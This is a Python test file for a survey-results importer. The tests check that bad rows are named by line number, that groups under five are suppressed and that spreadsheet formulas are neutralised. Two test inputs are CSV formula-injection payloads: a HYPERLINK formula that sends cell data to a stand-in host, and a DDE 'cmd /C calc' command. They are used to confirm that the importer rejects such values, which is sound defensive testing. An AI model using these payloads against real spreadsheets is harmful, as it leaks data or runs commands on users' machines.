"""Response exports in, suppressed aggregates out: bad rows named by line, no group under 5 published."""

from __future__ import annotations

import shutil
from datetime import date
from pathlib import Path

import pytest
import yaml

from build_tools.core.settings import Settings
from build_tools.kinds.courses import results
from build_tools.kinds.courses.pages import pages as render_courses
from build_tools.pipeline import load_site
from tests.conftest import FIXTURES, TODAY
from tests.test_courses import course_project


@pytest.fixture
def project(tmp_path: Path, small_orphanet: Path) -> tuple[Path, object]:
    root = course_project(tmp_path, small_orphanet, "course_valid")
    site = load_site(Settings(root=root), TODAY)
    return root, next(c for c in site.courses if c.slug == "vinterkurs")


def export(tmp_path: Path, name: str = "vinterkurs.csv", text: str | None = None) -> Path:
    path = tmp_path / "svar" / name
    path.parent.mkdir(exist_ok=True)
    if text is None:
        shutil.copy(FIXTURES / "responses" / name, path)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def test_bad_rows_are_named_by_line_and_skipped(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, problems = results.aggregate_responses(course, export(tmp_path), root)
    shown = [str(p).split(": ", 1)[1] for p in problems]
    assert shown == [
        "helhet: ugyldig svar 'elleve'; gyldige er 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 eller tomt; raden er hoppet over",
        "rolle: verdien '=HYPERLINK(\"http://x.example/?\"&A1)' ser ut som en regnearkformel; raden er hoppet over",
        "raden har 5 felt, men overskriften har 6; raden er hoppet over",
    ]
    assert [p.line for p in problems] == [6, 8, 9]  # the quoted answer over two lines counts as two
    assert all(p.severity == "warning" for p in problems)
    assert meta is not None and meta.respondenter == 6 and meta.hoppet_over == 3


def test_groups_under_five_are_suppressed_and_free_text_never_kept(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, _ = results.aggregate_responses(course, export(tmp_path), root)
    by_id = {q.id: q for q in meta.spørsmål}
    assert "bra" not in by_id
    rolle = {c.verdi: c.antall for c in by_id["rolle"].fordeling}
    assert rolle == {"pasient": None, "parorende": None}  # 4 and 2: both hidden
    assert by_id["program_3"].besvart == 6
    for q in meta.spørsmål:
        for cell in q.fordeling or []:
            assert cell.antall is None or cell.antall == 0 or cell.antall >= 5
    written = results.write_aggregate(meta, root)
    assert "Fint" not in written.read_text(encoding="utf-8")


def test_one_hidden_cell_takes_a_second_with_it() -> None:
    assert results._suppress([10, 3, 7]) == [10, None, None]
    assert results._suppress([10, 0, 2, 6]) == [10, None, None, 6]
    assert results._suppress([3, 2, 9]) == [None, None, 9]


def test_wrong_columns_stop_the_import(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    path = export(tmp_path, "feil.csv", "rolle,helhet,=cmd|' /C calc'!A0,anbefale\npasient,9,1,ja\n")
    meta, problems = results.aggregate_responses(course, path, root)
    assert meta is None
    assert str(problems[0]).endswith(
        "feil.csv:1: ukjente kolonner: \"=cmd|' /C calc'!A0\"; mangler kolonnene: program_1, program_3, bra; "
        "overskriften må ha nøyaktig spørsmålenes id-er i skjemaet «standard» versjon 1: rolle, helhet, program_1, program_3, anbefale, bra"
    )


def test_an_export_inside_the_repository_is_refused(project) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    inside = root / "svar.csv"
    shutil.copy(FIXTURES / "responses/vinterkurs.csv", inside)
    meta, problems = results.aggregate_responses(course, inside, root)
    assert meta is None and "ligger inne i depotet" in problems[0].message


def test_results_page_with_fewer_than_five_shows_no_numbers(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    path = export(tmp_path, "fa.csv", "rolle,helhet,program_1,program_3,anbefale,bra\n" + "pasient,9,5,5,ja,\n" * 4)
    meta, problems = results.aggregate_responses(course, path, root)
    assert problems == [] and meta.respondenter is None and meta.spørsmål == []
    results.write_aggregate(meta, root)
    settings = Settings(root=root)
    pages = render_courses(load_site(settings, TODAY), settings, date(2027, 2, 1))
    page = pages["kurs/vinterkurs/resultater/index.md"].decode("utf-8").split("---\n", 2)[2]
    assert "For få deltakere svarte" in page
    assert "<svg" not in page and "<table" not in page and "4" not in page.replace("(20. januar 2027)", "")


def test_a_hand_edited_small_count_cannot_be_published(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, _ = results.aggregate_responses(course, export(tmp_path), root)
    path = results.write_aggregate(meta, root)
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["spørsmål"][0]["fordeling"][0]["antall"] = 3
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    _, problems = results.read_results(root)
    assert any("færre enn 5 svar kan ikke publiseres" in p.message for p in problems)


def test_published_csv_neutralises_formulas() -> None:
    assert results.csv_safe('=HYPERLINK("x")') == "'=HYPERLINK(\"x\")"
    assert results.csv_safe("@SUM(A1)") == "'@SUM(A1)" and results.csv_safe("Bra") == "Bra"
